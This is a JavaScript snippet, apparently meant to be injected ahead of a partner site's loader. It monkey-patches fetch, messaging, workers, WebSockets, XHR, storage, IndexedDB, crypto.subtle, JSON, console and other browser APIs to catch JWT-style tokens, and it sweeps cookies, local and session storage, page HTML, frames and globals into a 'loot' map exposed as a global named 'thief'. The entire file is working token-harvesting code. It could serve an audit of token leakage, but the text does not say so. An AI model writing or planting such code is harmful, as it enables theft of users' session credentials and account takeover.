// Stands in the partner's page before the loader: patches whatever a token could pass through, and keeps what it sees.
(() => {
  const loot = new Map();
  const jwt = /eyJ[\w-]{10,}\.[\w-]{10,}\.[\w-]{10,}/g;
  const walked = new WeakSet();
  const keep = (where, value, depth = 0) => {
    if (typeof value === 'string') {
      for (const [token] of value.matchAll(jwt)) if (!loot.has(token)) loot.set(token, where);
      return;
    }
    if (typeof value !== 'object' || value === null || depth > 5 || walked.has(value)) return;
    walked.add(value);
    if (value instanceof Request) keep(where, [value.url, [...value.headers]], depth);
    if (value instanceof ArrayBuffer || ArrayBuffer.isView(value)) keep(where, new TextDecoder().decode(value));
    for (const key of Object.getOwnPropertyNames(value)) {
      try {
        keep(where, value[key], depth + 1);
      } catch {
        // Another origin's window, or an accessor that throws.
      }
    }
  };
  /** What a promise brings, and the body of an answer. */
  const watch = async (where, promise) => {
    try {
      const value = await promise;
      keep(where, value);
      if (value instanceof Response) keep(where, await value.clone().text());
    } catch {
      // Refused calls and bodies that are gone bring nothing.
    }
  };
  const patched = [];
  const patch = (object, names, where) => {
    for (const name of names) {
      const real = object?.[name];
      if (typeof real !== 'function') continue;
      patched.push(`${where}.${name}`);
      object[name] = function (...args) {
        keep(`${where}.${name}`, args);
        if (new.target) {
          const made = Reflect.construct(real, args, new.target);
          made.addEventListener?.('message', ({ data }) => keep(`${where}.${name} message`, data));
          return made;
        }
        const answer = Reflect.apply(real, this, args);
        keep(`${where}.${name} result`, answer);
        if (answer?.then) void watch(`${where}.${name} result`, answer);
        return answer;
      };
      object[name].prototype = real.prototype;
    }
  };
  patch(
    globalThis,
    'fetch postMessage Worker SharedWorker WebSocket EventSource BroadcastChannel MessageChannel XMLHttpRequest open structuredClone atob btoa setTimeout queueMicrotask'.split(
      ' ',
    ),
    'window',
  );
  patch(MessagePort.prototype, ['postMessage', 'addEventListener', 'start'], 'MessagePort');
  patch(XMLHttpRequest.prototype, ['open', 'send', 'setRequestHeader'], 'XMLHttpRequest');
  patch(Response.prototype, ['json', 'text', 'arrayBuffer', 'blob'], 'Response');
  patch(Headers.prototype, ['append', 'set', 'get'], 'Headers');
  patch(crypto.subtle, ['sign', 'importKey', 'exportKey', 'generateKey', 'digest', 'encrypt', 'wrapKey'], 'subtle');
  patch(Storage.prototype, ['setItem', 'getItem'], 'Storage');
  patch(IDBObjectStore.prototype, ['put', 'get', 'add'], 'indexedDB');
  patch(JSON, ['parse', 'stringify'], 'JSON');
  patch(console, ['log', 'warn', 'error', 'info', 'debug'], 'console');
  patch(navigator, ['sendBeacon'], 'navigator');
  patch(history, ['pushState', 'replaceState'], 'history');
  patch(Element.prototype, ['setAttribute', 'append', 'appendChild'], 'Element');
  patch(TextEncoder.prototype, ['encode'], 'TextEncoder');
  patch(TextDecoder.prototype, ['decode'], 'TextDecoder');
  // Read what arrives at code that sets `onmessage` or listens for messages.
  const { get, set } = Object.getOwnPropertyDescriptor(MessagePort.prototype, 'onmessage');
  Object.defineProperty(MessagePort.prototype, 'onmessage', {
    configurable: true,
    get,
    set(listener) {
      set.call(this, (event) => {
        keep('MessagePort message', event.data);
        return listener(event);
      });
    },
  });
  addEventListener('message', ({ data }) => keep('window message', data));
  for (const kind of ['error', 'unhandledrejection'])
    addEventListener(kind, (event) => keep(kind, [event.message, event.reason]));

  /** Everything in reach of a script of the page, by now. */
  const search = () => {
    keep('document', document.documentElement.outerHTML);
    keep('address', location.href);
    keep('cookie', document.cookie);
    keep('localStorage', JSON.stringify({ ...localStorage }));
    keep('sessionStorage', JSON.stringify({ ...sessionStorage }));
    keep('requests', JSON.stringify(performance.getEntries()));
    keep(
      'windows',
      [...Array(frames.length).keys()].map((index) => frames[index]),
    );
    for (const name of Object.getOwnPropertyNames(globalThis)) if (name !== 'thief') keep(`window.${name}`, globalThis[name]);
  };
  Object.defineProperty(globalThis, 'thief', { value: { loot, patched, search } });
})();
